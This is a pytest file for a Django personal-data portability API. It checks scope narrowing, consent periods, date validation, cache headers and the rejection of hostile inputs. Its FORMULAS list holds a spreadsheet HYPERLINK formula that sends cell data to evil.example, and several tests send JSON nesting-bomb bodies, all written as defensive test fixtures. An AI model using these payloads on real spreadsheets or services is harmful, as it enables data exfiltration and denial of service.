"""The portability API from the side that must be refused: a token narrowed to fewer scopes, a
client outside the consent's period, a spreadsheet formula in a legacy text, absurd dates,
a nesting bomb, a cache that would keep personal data."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from django.core.files.base import ContentFile

from restitution.models import Dataset, Document, Grant
from tests.api.test_records_api import PROBLEM, _contract, _curve, all_pages, get, write
from tests.conftest import reset_rate_limits
from tests.personas import CONTRACTS, CURVE, scope_of


@pytest.fixture
def data(personas):
    """As in test_records_api: alice has 20 readings and contracts A1, A2; bob 3 readings and B1."""
    write(personas.alice, CURVE, [_curve(d, h) for d in range(1, 11) for h in (0, 12)])
    write(personas.alice, CONTRACTS, [_contract("A1"), _contract("A2")])
    write(personas.bob, CURVE, [_curve(d, 6, kw=9.9) for d in range(1, 4)])
    write(personas.bob, CONTRACTS, [_contract("B1")])
    return personas


# --- A token narrowed on refresh -----------------------------------------------------------------


@pytest.fixture
def narrowed(flow, data):
    """alice granted CURVE and CONTRACTS; the client refreshed its token down to CURVE only."""
    tokens = flow.tokens()
    response = flow.refresh(tokens["refresh_token"], scope=scope_of(CURVE))
    assert response.status_code == 200, response.content
    assert response.json()["scope"] == scope_of(CURVE)
    return response.json()["access_token"]


def test_a_narrowed_token_reads_no_change_of_a_dataset_outside_its_scopes(flow, narrowed):
    changes = all_pages(flow, narrowed, "/api/v1/changes")
    assert changes and {c["dataset"] for c in changes} == {CURVE}
    printed = get(flow, narrowed, "/api/v1/changes?format=ndjson").content.decode().splitlines()
    assert {json.loads(line)["dataset"] for line in printed} == {CURVE}
    as_csv = list(csv.DictReader(io.StringIO(get(flow, narrowed, "/api/v1/changes?format=csv").content.decode())))
    assert {row["dataset"] for row in as_csv} == {CURVE}


def test_a_narrowed_token_sees_only_its_scopes_in_every_endpoint(flow, narrowed):
    assert [d["slug"] for d in get(flow, narrowed, "/api/v1/datasets").json()["items"]] == [CURVE]
    assert get(flow, narrowed, "/api/v1/me").json()["datasets"] == [CURVE]
    # Granted but outside this token's scopes: RFC 6750 §3.1 insufficient_scope.
    for path in (f"/api/v1/datasets/{CONTRACTS}/records", f"/api/v1/datasets/{CONTRACTS}/schema"):
        refused = get(flow, narrowed, path)
        assert refused.status_code == 403, path
        assert 'error="insufficient_scope"' in refused["WWW-Authenticate"]
    reset_rate_limits()
    asked = flow.api.post("/api/v1/exports", data={"datasets": [CONTRACTS]}, content_type="application/json",
                          HTTP_AUTHORIZATION=f"Bearer {narrowed}")
    assert asked.status_code == 403


def test_a_narrowed_token_cannot_poll_an_export_asked_with_more_scopes(flow, data):
    tokens = flow.tokens()
    reset_rate_limits()
    asked = flow.api.post("/api/v1/exports", data={}, content_type="application/json",
                          HTTP_AUTHORIZATION=f"Bearer {tokens['access_token']}")
    assert asked.status_code == 202
    narrow = flow.refresh(tokens["refresh_token"], scope=scope_of(CURVE)).json()["access_token"]
    assert get(flow, narrow, asked["Content-Location"]).status_code == 404


def test_a_narrowed_token_cannot_fetch_a_document_outside_its_scopes(flow, data, personas):
    invoices = Dataset.objects.get(slug="telco-invoices")
    personas.trusted.allowed_datasets.add(invoices)
    pdf = b"%PDF-1.4\n% an invoice\n"
    digest = hashlib.sha256(pdf).hexdigest()
    write(personas.alice, "telco-invoices", [{
        "invoice_id": "F1", "issued_on": "2025-01-31", "period_start": "2025-01-01", "period_end": "2025-01-31",
        "amount_incl_tax": 19.99, "currency": "EUR", "status": "paid",
        "document": {"filename": "F1.pdf", "content_type": "application/pdf", "size": len(pdf), "sha256": digest}}])
    document = Document(customer=personas.alice, dataset=invoices, record_key="F1", filename="F1.pdf",
                        content_type="application/pdf", size=len(pdf), sha256=digest)
    document.file.save("F1.pdf", ContentFile(pdf), save=True)
    tokens = flow.tokens(datasets=[CURVE, "telco-invoices"], scope=scope_of(CURVE, "telco-invoices"))
    path = f"/api/v1/datasets/telco-invoices/documents/{digest}"
    assert get(flow, tokens["access_token"], path).status_code == 200
    narrow = flow.refresh(tokens["refresh_token"], scope=scope_of(CURVE)).json()["access_token"]
    assert get(flow, narrow, path).status_code == 403


# --- Deletions outside the consent's period ------------------------------------------------------


def test_a_deletion_outside_the_consents_period_does_not_reveal_its_key(flow, data, personas):
    write(personas.alice, CONTRACTS, [{**_contract("OLD-1"), "start_date": "2019-03-01"}, _contract("A1"),
                                      _contract("A2")])
    token = flow.tokens(window_start="2024-01-01", window_end="2025-12-31")["access_token"]
    since = get(flow, token, "/api/v1/changes").json()["last_seq"]
    write(personas.alice, CONTRACTS, [_contract("A1")])  # OLD-1 (2019) and A2 (2024) vanish
    for path in (f"/api/v1/changes?since={since}", f"/api/v1/datasets/{CONTRACTS}/records?since={since}"):
        deleted = [c["key"] for c in all_pages(flow, token, path) if c.get("deleted")]
        assert deleted == ["A2"], path
        printed = get(flow, token, path + "&format=ndjson").content.decode()
        assert "OLD-1" not in printed and '"A2"' in printed
        assert "OLD-1" not in get(flow, token, path + "&format=csv").content.decode()


def test_without_a_period_every_deletion_is_shown(flow, data, personas):
    write(personas.alice, CONTRACTS, [{**_contract("OLD-1"), "start_date": "2019-03-01"}, _contract("A1")])
    token = flow.tokens()["access_token"]
    since = get(flow, token, "/api/v1/changes").json()["last_seq"]
    write(personas.alice, CONTRACTS, [_contract("A1")])
    deleted = [c["key"] for c in all_pages(flow, token, f"/api/v1/changes?since={since}") if c.get("deleted")]
    assert deleted == ["OLD-1"]


# --- CSV formula injection -----------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(1)", "\tx", "\rx"]


def test_csv_cells_never_start_a_formula_while_json_keeps_the_exact_text(flow, data, personas):
    write(personas.alice, CONTRACTS, [{**_contract(f"F{i}"), "product": text, "deductible": -150.0}
                                      for i, text in enumerate(FORMULAS)])
    token = flow.tokens()["access_token"]
    path = f"/api/v1/datasets/{CONTRACTS}/records"
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(
        get(flow, token, path + "?format=csv").content.decode(), newline=""))}
    for i, text in enumerate(FORMULAS):
        assert rows[f"F{i}"]["product"] == "'" + text
        assert rows[f"F{i}"]["deductible"] == "-150.0"  # a negative number is a number, not a formula
    items = {item["key"]: item for item in all_pages(flow, token, path)}
    assert [items[f"F{i}"]["data"]["product"] for i in range(len(FORMULAS))] == FORMULAS
    lines = get(flow, token, path + "?format=ndjson").content.decode().splitlines()
    assert sorted(json.loads(line)["data"]["product"] for line in lines) == sorted(FORMULAS)


# --- Absurd dates and bodies: 400, never 500 -----------------------------------------------------


@pytest.mark.parametrize("query", ["to=9999-12-31", "from=9999-12-31&to=9999-12-31", "from=0001-01-01T00:00:00+01:00",
                                   "to=9999-12-31T23:00:00-02:00", "from=0001-01-01"])
def test_dates_at_the_ends_of_the_calendar_are_400_problems(flow, data, query):
    token = flow.tokens()["access_token"]
    for path in (f"/api/v1/datasets/{CURVE}/records", f"/api/v1/datasets/{CURVE}/records?format=csv&x=1"):
        response = get(flow, token, f"{path}{'&' if '?' in path else '?'}{query}")
        assert response.status_code == 400, response.content
        assert response["Content-Type"] == PROBLEM
        assert response.json()["code"] == "invalid_parameter"  # a JSON problem, even when CSV was asked


def test_an_export_to_the_end_of_the_calendar_is_a_400_problem(flow, data):
    token = flow.tokens()["access_token"]
    reset_rate_limits()
    response = flow.api.post("/api/v1/exports", data={"to": "9999-12-31"}, content_type="application/json",
                             HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 400 and response["Content-Type"] == PROBLEM


def test_a_consent_period_ending_on_the_last_day_of_the_calendar_still_serves(flow, data, personas):
    token = flow.tokens()["access_token"]
    Grant.objects.filter(customer=personas.alice).update(window_end="9999-12-31")
    for path in ("/api/v1/datasets", f"/api/v1/datasets/{CURVE}/records", "/api/v1/changes",
                 f"/api/v1/datasets/{CURVE}/records?format=csv"):
        assert get(flow, token, path).status_code == 200, path
    assert len(all_pages(flow, token, f"/api/v1/datasets/{CURVE}/records")) == 20


@pytest.mark.parametrize("body", [b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
                                  b'{"datasets":' + b"[" * 5000 + b"]" * 5000 + b"}"])
def test_a_nesting_bomb_is_a_400_problem(flow, data, body):
    token = flow.tokens()["access_token"]
    reset_rate_limits()
    response = flow.api.post("/api/v1/exports", data=body, content_type="application/json",
                             HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 400, response.content[:300]
    assert response["Content-Type"] == PROBLEM and response.json()["code"] == "invalid_body"


def test_an_oversized_body_is_a_413_problem(flow, data):
    token = flow.tokens()["access_token"]
    reset_rate_limits()
    body = json.dumps({"datasets": [CURVE] * 20_000}).encode()
    response = flow.api.post("/api/v1/exports", data=body, content_type="application/json",
                             HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 413 and response["Content-Type"] == PROBLEM
    assert response.json()["code"] == "body_too_large"


def test_strings_that_look_like_brackets_do_not_count_as_nesting(flow, data):
    token = flow.tokens()["access_token"]
    reset_rate_limits()
    response = flow.api.post("/api/v1/exports", data={"datasets": [CURVE], "note": "[" * 500 + "\\\"{" * 100},
                             content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 202, response.content


# --- Caches ---------------------------------------------------------------------------------------


def _no_store(response) -> bool:
    return "no-store" in response.get("Cache-Control", "")


def test_no_api_response_with_personal_data_may_be_stored(flow, data):
    token = flow.tokens()["access_token"]
    for path in ("/api/v1/me", "/api/v1/datasets", f"/api/v1/datasets/{CURVE}/records",
                 f"/api/v1/datasets/{CURVE}/records?format=ndjson", f"/api/v1/datasets/{CURVE}/records?format=csv",
                 "/api/v1/changes", f"/api/v1/datasets/{CURVE}/records?to=yesterday"):
        response = get(flow, token, path)
        assert _no_store(response), (path, response.get("Cache-Control"))
    reset_rate_limits()
    asked = flow.api.post("/api/v1/exports", data={}, content_type="application/json",
                          HTTP_AUTHORIZATION=f"Bearer {token}")
    assert _no_store(asked) and _no_store(get(flow, token, asked["Content-Location"]))


def test_an_unchanged_page_still_revalidates_to_a_304_that_is_not_stored(flow, data):
    token = flow.tokens()["access_token"]
    first = get(flow, token, f"/api/v1/datasets/{CONTRACTS}/records")
    again = get(flow, token, f"/api/v1/datasets/{CONTRACTS}/records", HTTP_IF_NONE_MATCH=first["ETag"])
    assert again.status_code == 304 and _no_store(again)


def test_public_metadata_keeps_its_own_caching(flow, data):
    response = flow.api.get("/.well-known/oauth-authorization-server")
    assert response.status_code == 200 and not _no_store(response)
